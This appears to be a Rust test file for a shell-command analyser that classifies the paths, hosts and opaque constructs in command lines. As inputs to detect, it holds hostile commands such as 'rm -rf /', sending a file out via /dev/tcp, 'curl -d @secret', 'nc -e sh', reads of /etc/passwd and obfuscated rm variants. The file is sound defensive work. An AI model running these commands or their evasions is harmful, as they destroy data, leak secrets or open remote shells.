use super::*;

fn told(text: &str) -> String {
    let Shell { programs, paths, hosts, opaque, .. } = Shell::read(text);
    let join = |all: Vec<String>| all.join(" ");
    let programs = join(programs.into_iter().collect());
    let short = |role: ArgumentRole| match role {
        ArgumentRole::ReadPath => "r",
        ArgumentRole::WritePath => "w",
        ArgumentRole::DeletePath => "d",
        ArgumentRole::Url
        | ArgumentRole::Host
        | ArgumentRole::Email
        | ArgumentRole::Sql
        | ArgumentRole::Command
        | ArgumentRole::None
        | ArgumentRole::ByName => "?",
    };
    let paths =
        join(paths.into_iter().map(|(role, path)| format!("{}:{path}", short(role))).collect());
    let hosts = join(hosts.into_iter().collect());
    format!("{programs} [{paths}] [{hosts}]{}", if opaque { " opaque" } else { "" })
}

fn check(cases: &[(&str, &str)]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(text, expected)| told(text) != *expected)
        .map(|(text, expected)| format!("{text:?}\n     got {}\n  wanted {expected}", told(text)))
        .collect();
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
}

#[test]
fn plain_command_lines_are_taken_apart() {
    check(&[
        ("ls -la src", "ls [r:src] []"),
        ("cat a.txt | grep -n x | sort -o out", "cat grep sort [r:a.txt w:out] []"),
        ("cargo test > log 2>&1", "cargo [w:log] []"),
        (
            "cd src && cat a ../b /c ~/d; cd /e; cat f",
            "cat cd [r:../b r:/c r:/e r:/e/f r:a r:f r:src r:src/../b r:src/a r:src/f r:~/d] []",
        ),
        ("cd && cat a", "cat cd [r:a r:~ r:~/a] []"),
        ("dd if=a of=/dev/sda bs=1M", "dd [r:a w:/dev/sda] []"),
        ("rm -rf build; mkdir -p build/x", "mkdir rm [w:build/x d:build] []"),
        ("cp a b c/ && mv d e", "cp mv [r:a r:b r:d w:c/ w:e d:d] []"),
        ("echo 'a; rm -rf /' \"b | c\" # rm x", "echo [] []"),
        ("echo $HOME ${USER:-x}", "echo [] []"),
        ("head -n 5 a < b", "head [r:a r:b] []"),
        ("git -C sub add ./x", "git [r:./x r:sub r:sub/./x] []"),
        ("git clone https://example.com/a.git", "git [] [https://example.com/a.git]"),
        ("git fetch git@example.com:a/b.git", "git [] [example.com:22]"),
        ("curl -sSL -o out https://a.example/x", "curl [w:out] [https://a.example/x]"),
        ("curl -d @secret a.example", "curl [r:secret] [http://a.example]"),
        ("wget -O x http://a.example/", "wget [w:x] [http://a.example/]"),
        ("nc a.example 443", "nc [] [a.example:443]"),
        ("scp a me@a.example:b", "scp [r:a] [a.example:22]"),
        ("ssh -p 2222 me@a.example", "ssh [] [a.example:2222]"),
        ("if test -f x; then cat x; else true; fi", "cat test true [r:x] []"),
        ("for f in a b; do wc -l x; done", "wc [r:x] []"),
        ("(cat a) && { cat b; }", "cat [r:a r:b] []"),
        ("cat {a,b}.txt x{1,2{3,4}}", "cat [r:a.txt r:b.txt r:x1 r:x23 r:x24] []"),
        ("sed -n 's/a/b/gp' x", "sed [r:x] []"),
        ("sed -i 's/a/b/' x", "sed [w:x] []"),
        ("python3 run.py --out /tmp/x", "python3 [r:/tmp/x r:run.py] []"),
        ("A=1 B=2 make2 x", "make2 [] []"),
        ("cat <<'EOF' > out\n$(rm -rf /)\nEOF\nls", "cat ls [w:out] []"),
        ("diff <(cat a) <(cat b)", "cat diff [r:a r:b] [] opaque"),
        ("", " [] []"),
    ]);
}

#[test]
fn wrappers_are_unfolded() {
    check(&[
        ("env A=1 rm x", "env rm [d:x] []"),
        ("sudo -u root rm x", "rm sudo [d:x] []"),
        ("doas rm x", "doas rm [d:x] []"),
        ("nohup nice -n 5 timeout -k 1 5 rm x", "nice nohup rm timeout [d:x] []"),
        ("time rm x", "rm time [d:x] []"),
        ("command -p rm x; exec rm y; builtin echo", "builtin command echo exec rm [d:x d:y] []"),
        ("busybox rm x", "busybox rm [d:x] []"),
        ("bash -c 'rm x'", "bash rm [d:x] []"),
        ("sh -xec 'rm x' y", "rm sh [d:x] []"),
        ("bash -c \"sh -c 'rm x'\"", "bash rm sh [d:x] []"),
        ("/bin/bash -lc 'cat /etc/passwd'", "bash cat [r:/etc/passwd] []"),
        ("find . -name '*.o' -exec rm {} \\;", "find rm [r:. d:.] []"),
        ("find a b -delete", "find [r:a r:b d:a d:b] []"),
        ("echo x | xargs rm", "echo rm xargs [] [] opaque"),
        ("echo $(rm x)", "echo rm [d:x] []"),
        ("echo `rm x`", "echo rm [d:x] []"),
        ("echo \"$(echo \"$(rm x)\")\"", "echo rm [d:x] []"),
        ("ssh a.example rm -rf /", "rm ssh [] [a.example:22] opaque"),
        ("cat a > /dev/tcp/a.example/80", "cat [r:a] [a.example:80]"),
        ("! rm x", "rm [d:x] []"),
        ("r\\m x; 'r'm y; \"rm\" z", "rm [d:x d:y d:z] []"),
        ("/usr/bin/r'm' x", "rm [d:x] []"),
        ("{rm,-rf,x}", "rm [d:x] []"),
    ]);
}

const OPAQUE: &[&str] = &[
    "$X",
    "$X -rf /",
    "${X}",
    "a$X",
    "cat $FILE",
    "cat ${IFS}x",
    "cat$IFS/etc/passwd",
    "r$()m x",
    "rm `ls`",
    "cd $X",
    "cd -",
    "find . -execdir rm {} +",
    "eval rm x",
    "eval \"$X\"",
    ". ./x",
    "source x",
    "alias ls=rm",
    "trap 'rm x' EXIT",
    "python -c 'import os'",
    "python3.11 -c x",
    "python -",
    "echo x | python",
    "node -e x",
    "perl -ne x",
    "ruby -e x",
    "php -r x",
    "bash",
    "bash -s",
    "echo rm | sh",
    "sh <<EOF\nrm x\nEOF",
    "sh <<< 'rm x'",
    "bash -c $X",
    "bash -c",
    "/bin/c?t x",
    "cat *",
    "cat a[bc]",
    "env -S 'rm x'",
    "env -C / rm x",
    "PATH=. ls",
    "LD_PRELOAD=x ls",
    "env LD_PRELOAD=x ls",
    "IFS=x; ls",
    "export PATH=x",
    "git -c alias.x='!rm' x",
    "git -c core.pager=x log",
    "git x",
    "git --exec-path=x log",
    "git clone -u x y",
    "git config alias.x '!rm y'",
    "git fetch 'ext::sh -c rm'",
    "find . -exec sh -c 'rm \"$1\"' _ {} \\;",
    "find -exec cat a{} +",
    "ssh -o ProxyCommand=x a.example",
    "ssh -J b a",
    "rsync -e 'sh -c x' a b",
    "scp -S x a b:c",
    "curl -K x",
    "curl --resolve a:1:b https://a",
    "nc -e sh a 1",
    "awk 'BEGIN{system(\"x\")}'",
    "vim x",
    "sed 's/a/b/e' x",
    "sed '1e rm' x",
    "sed 'w x' y",
    "sed -f x y",
    "tar --to-command=x -xf y",
    "make",
    "a() { rm x; }; a",
    "function a { rm x; }",
    "case x in x) rm y;; esac",
    "[[ -f x ]]",
    "((a=1))",
    "echo $((1+1))",
    "$'\\x72m' x",
    "echo \"$(",
    "echo '",
    "cat <<EOF\n$(rm x)\nEOF",
    "cat <<EOF",
    "a=(b c)",
    "${x:-$(rm y)}",
    "${x@P}",
    "echo {1..3}",
    "echo ~root/x; cat ~root/x",
    "coproc rm x",
    "a | | b)",
    "docker run x",
    "sudo -i",
    "sudo -s",
    "flock x -c 'rm y'",
    "grep -e x y",
    "ls\u{0}",
    "ls\rrm x",
    "ls \u{e000}",
];

#[test]
fn what_is_made_when_it_runs_is_opaque() {
    for text in OPAQUE {
        assert!(Shell::read(text).opaque, "{text:?}: {}", told(text));
    }
}

#[test]
fn what_hides_among_other_words_is_found() {
    for (text, program) in [
        ("true && rm x", "rm"),
        ("true & rm x", "rm"),
        ("true\nrm x", "rm"),
        ("true || rm x", "rm"),
        ("true |& rm x", "rm"),
        ("A=b rm x", "rm"),
        ("A=$(rm x)", "rm"),
        (">x rm y", "rm"),
        ("2>x rm y", "rm"),
        ("<<a rm y\na", "rm"),
        ("ls <(rm x)", "rm"),
        ("ls > >(rm x)", "rm"),
        ("ls \\\n; rm x", "rm"),
        ("while rm x; do :; done", "rm"),
        ("until :; do rm x; done", "rm"),
        ("if rm x; then :; fi", "rm"),
        ("for i in $(rm x); do :; done", "rm"),
        ("[ -f x ] && rm x", "rm"),
        ("x=1; rm y", "rm"),
        ("case x in x) rm y;; esac", "rm"),
        ("f() { rm x; }", "rm"),
        ("echo \"${x:-`rm y`}\" ; rm z", "rm"),
        ("cat <<a\ntext\na\nrm x", "rm"),
    ] {
        assert!(Shell::read(text).programs.contains(program), "{text:?}: {}", told(text));
    }
}

#[test]
fn long_and_deep_texts_end() {
    for text in [
        "$(".repeat(8_000),
        "(".repeat(16_000),
        "{a,b}".repeat(1_000),
        "`".repeat(16_000),
        "a;".repeat(8_000),
        "\"$(".repeat(5_000),
        "<<a ".repeat(4_000),
        "x".repeat(SHELL_BYTES_MAX + 1),
    ] {
        assert!(Shell::read(&text).opaque, "{}", text.get(..20).unwrap());
    }
    let mut nested = "rm x".to_owned();
    for _ in 0..12 {
        nested = format!("env {nested}");
    }
    assert!(Shell::read(&nested).opaque);
}
